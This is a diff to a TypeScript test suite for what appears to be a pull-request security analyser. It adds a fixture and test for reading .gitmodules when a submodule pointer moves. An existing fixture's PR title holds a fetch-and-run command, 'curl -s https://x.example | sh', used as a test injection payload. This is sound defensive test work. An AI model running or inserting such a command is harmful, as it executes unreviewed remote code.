@@ -15,6 +15,7 @@ let typical: PrFixture;
 let payload: PrFixture;
 let many: PrFixture;
 let tagged: PrFixture;
+let submodule: PrFixture;
 
 beforeAll(async () => {
   server = await startGitHubServer();
@@ -32,6 +33,8 @@ beforeAll(async () => {
     path: '/repos/some-vendor/deploy/commits/:ref',
     handler: (request) => (request.params.ref === 'v2.3.1' ? { status: 200, headers: { 'content-type': 'application/vnd.github.sha; charset=utf-8' }, body: 'b'.repeat(40) } : { status: 404, body: { message: 'Not Found' } }),
   });
+  const gitlink = { path: 'vendor/lib', status: 'modified' as const, patch: `@@ -1 +1 @@\n-Subproject commit ${'c'.repeat(40)}\n+Subproject commit ${'d'.repeat(40)}`, additions: 1, deletions: 1 };
+  submodule = server.addPullRequest(makePrFixture({ ...base, number: 8, files: [gitlink], baseFiles: { '.gitmodules': '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://git.example.net/lib.git\n' } }));
   many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
 });
 afterAll(async () => {
@@ -65,6 +68,16 @@ describe('reading the base workflows for a metadata payload', () => {
     const { snapshot } = await analyze(many);
     expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/'))).toHaveLength(MAX_BASE_WORKFLOWS);
     expect(snapshot.warnings).toEqual([`3 of the base's workflows were not read (at most ${MAX_BASE_WORKFLOWS}): they were not checked for expanding this PR's title, body or branch name`]);
+  });
+});
+
+describe('reading .gitmodules for a moved submodule pointer', () => {
+  it('reads it at the base only when a gitlink moves and the PR does not change .gitmodules', async () => {
+    const { snapshot } = await analyze(submodule);
+    expect(snapshot.baseFiles.find((f) => f.path === '.gitmodules')?.content).toContain('git.example.net');
+    expect(snapshot.warnings).toEqual([]);
+    await analyze(typical);
+    expect(server.requests.some((r) => decodeURIComponent(r.path).endsWith('/contents/.gitmodules'))).toBe(false);
   });
 });
 
